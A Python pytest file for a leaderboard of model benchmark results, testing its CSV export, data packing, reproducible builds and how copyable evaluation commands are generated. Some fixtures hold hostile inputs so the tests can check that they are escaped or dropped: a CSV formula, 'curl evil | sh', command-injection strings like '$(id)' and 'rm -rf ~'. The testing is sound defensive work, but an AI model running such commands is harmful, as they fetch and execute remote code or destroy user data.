"""The documents of a board: the CSV, the packed data of the page, the digest, gaps."""

from __future__ import annotations

import csv
import io
import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from hf_evaluation.board.board import make_board
from hf_evaluation.board.documents import reports_csv
from hf_evaluation.board.packing import pack
from hf_evaluation.board.site import MANIFEST, site_files
from hf_evaluation.board.survey import read_survey
from hf_evaluation.core.text import csv_safe
from tests.board.support import board_of, one
from tests.survey_files import gap, lines, model, random_survey, score

VERIFIED = score("mmlu_pro", 60.0, kind="eval-results", verified=True, date="2025-01-01")
CARD = score("mmlu_pro", 72.0, kind="readme", status="unpublished", line=141)


def test_the_long_csv_has_every_report_once_and_no_formula() -> None:
    text = lines([model("acme/m", VERIFIED, CARD, score("gsm8k", 80.0, name="=HYPERLINK(1)"))])
    rows = list(csv.DictReader(io.StringIO(reports_csv(board_of(text)))))
    assert [(row["benchmark"], row["value"], row["shown"], row["source"]) for row in rows] == [
        ("mmlu_pro", "60.0", "yes", "Model card"),
        ("mmlu_pro", "72.0", "no", "Model card"),
        ("gsm8k", "80.0", "yes", "'=HYPERLINK(1)"),
    ]
    cells = [csv_safe(value) for value in ("\r=1", "\t=1", "+1", "@x", "-1", -1.5, None)]
    assert cells == ["'\r=1", "'\t=1", "'+1", "'@x", "'-1", "-1.5", ""]


def unpacked(told: Any, size: int) -> list[Any]:
    """A packed list as the page reads it."""
    if isinstance(told, list):
        return told
    found, at = [told["usual"]] * size, 0
    for step, value in zip(told["steps"], told["of"], strict=True):
        at += step
        found[at] = value
    return found


def reports_of(packed: dict[str, Any]) -> list[dict[str, Any]]:
    """The packed reports one by one."""
    cells = sum(model["cells"] for model in packed["models"])
    size = sum(unpacked(packed["cells"]["reports"], cells))
    fields = {name: unpacked(told, size) for name, told in packed["reports"].items()}
    return [{name: values[at] for name, values in fields.items()} for at in range(size)]


def test_the_packed_page_says_what_the_document_says() -> None:
    document = board_of(random_survey(30, 8, seed=5))
    packed = json.loads(json.dumps(pack(document)))
    strings, texts = packed["strings"], packed["texts"]
    told = [cell for row in document["models"] for cell in row["cells"].values()]
    columns = [column for row in document["models"] for column in row["cells"]]
    cells = {name: unpacked(values, len(told)) for name, values in packed["cells"].items()}
    assert [document["benchmarks"][at]["id"] for at in cells["column"]] == columns
    assert [strings[at] for at in cells["why"]] == [cell["why"] for cell in told]
    assert cells["conflict"] == [cell["conflict"] + cell["doubt"] for cell in told]
    reports = [report for cell in told for report in cell["reports"]]
    assert len(reports) > 200
    for short, report in zip(reports_of(packed), reports, strict=True):
        for name in texts:
            if name not in ("raw", "place"):
                assert strings[short[name]] == report[name], name
        for name in ("value", "decimals", "stderr", "samples", "pr"):
            assert short[name] == report[name], name
        printed = report["value"] if short["printed"] is None else short["printed"]
        assert printed == report["printed"]
        raw = strings[short["raw"]]
        assert raw is None or raw.replace("{}", f"{printed:.{short['decimals']}f}") == report["raw"]
        words = ("table", "row", "column", "line")
        place = ", ".join(f"{word} {short[word]}" for word in words if short[word] >= 0)
        assert (place or None) == report["place"]
        settings = dict(line.split(": ", 1) for line in (strings[short["told"]] or "").splitlines())
        assert settings == report["told"]


def test_a_zero_survives_the_packing() -> None:
    (report,) = reports_of(pack(one(score("gsm8k", 0.0, samples=0))))
    assert (report["value"], report["samples"]) == (0.0, 0)


def test_a_fraction_is_printed_as_it_was() -> None:
    packed = pack(one(score("gsm8k", 0.8123, unit="fraction", raw="**0.8123**", stderr=0.0112)))
    (report,) = reports_of(packed)
    assert (report["value"], report["printed"], report["stderr"]) == (81.23, 0.8123, 1.12)
    assert packed["strings"][report["raw"]] == "**{}**", "the page puts the number there"


def test_building_twice_gives_the_same_bytes_and_only_news_changes_the_digest(tmp_path: Path) -> None:
    text = random_survey(5, 4)
    site = site_files(make_board(read_survey(text), {}, title="T"))
    assert site == site_files(make_board(read_survey(text), {}, title="T"))
    later = text.replace("2026-11-23T10:00:00Z", "2026-11-24T10:00:00Z")
    again = site_files(make_board(read_survey(later), {}, title="T"))
    other = site_files(make_board(read_survey(text.replace('"likes": ', '"likes": 1')), {}, title="T"))
    digests = [json.loads(files[MANIFEST])["digest"] for files in (site, again, other)]
    assert digests[0] == digests[1] != digests[2]
    assert site["index.html"] != again["index.html"]


def test_gaps_get_their_command_and_hide_what_artificial_analysis_says() -> None:
    gaps = [
        gap("gsm8k", "to_measure", flavor="a10g-small"),
        gap("gpqa", "on_artificial_analysis", value=61.5, command="curl evil | sh"),
    ]
    document = board_of(lines([model("acme/m", gaps=gaps)]))
    rows = document["models"][0]["gaps"]
    assert [(row["state"], row["value"]) for row in rows] == [
        ("to_measure", None),
        ("on_artificial_analysis", None),
    ]
    assert rows[0]["command"].endswith("--repo-id acme/m --create-pr")
    assert rows[1]["command"] is None


def test_thousands_of_reports_are_compared_as_far_as_that_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    """Anybody may propose them; and a date may be any digits."""
    reports = [score("gsm8k", 50.0, date="1" * 5000), score("gsm8k", 50.0), score("gsm8k", 60.0)]
    conflicts = []
    for most in (3, 2):
        monkeypatch.setattr("hf_evaluation.board.choosing.MAX_RIVALS", most)
        (row,) = board_of(lines([model("acme/m", *reports)]))["models"]
        (cell,) = row["cells"].values()
        conflicts.append(cell["conflict"])
    assert conflicts == [True, False]


@pytest.mark.parametrize("state", ["in_pr", "in_readme", "to_measure", "on_artificial_analysis", "other"])
def test_no_command_of_a_survey_file_gets_onto_the_page(state: str) -> None:
    """People copy it with a button: it is made here, and what it is made of is quoted."""
    evil = gap(
        "x; curl evil", state, task="$(id)", flavor="`id`", creator="a b", offered="'", command="rm -rf ~"
    )
    (row,) = board_of(lines([model("acme/m", gaps=[evil])]))["models"][0]["gaps"]
    assert "rm -rf" not in json.dumps(row)
    assert not {"curl", ";", "id"} & set(shlex.split(row["command"] or ""))
